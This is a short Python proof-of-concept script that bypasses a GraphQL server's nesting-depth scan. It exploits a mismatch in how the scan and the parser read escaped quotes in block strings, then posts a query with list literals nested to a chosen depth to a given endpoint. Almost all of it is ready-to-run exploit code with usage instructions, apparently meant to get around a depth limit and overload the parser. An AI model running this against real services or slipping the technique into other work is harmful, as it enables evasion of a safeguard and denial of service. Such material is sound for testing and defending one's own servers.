# Nesting-scan bypass: in a block string the scan treats \" as one escaped quote, the parser
# treats \""" as one escape. After  """\""""  the scan believes the string closed, the parser
# does not; the parser's closing """ then looks to the scan like an opening one, and the scan
# ignores the rest of the document as string.  usage: python3 scan_bypass.py DEPTH [url]
import json, sys, urllib.request
d = int(sys.argv[1]); url = sys.argv[2] if len(sys.argv) > 2 else "http://127.0.0.1:18090/graphql"
q = 'query q($s: String = """\\"""" """, $a: [Int] = ' + "[" * d + "]" * d + "){__typename}"
print(q[:60] + "...")
body = json.dumps({"query": q}).encode()
req = urllib.request.Request(url, data=body, headers={"content-type": "application/json"})
try:
    with urllib.request.urlopen(req, timeout=30) as r: print(len(body), "bytes ->", r.status, r.read()[:300])
except urllib.error.HTTPError as e: print(len(body), "bytes ->", e.code, e.read()[:300])
except Exception as e: print(len(body), "bytes ->", type(e).__name__, e)
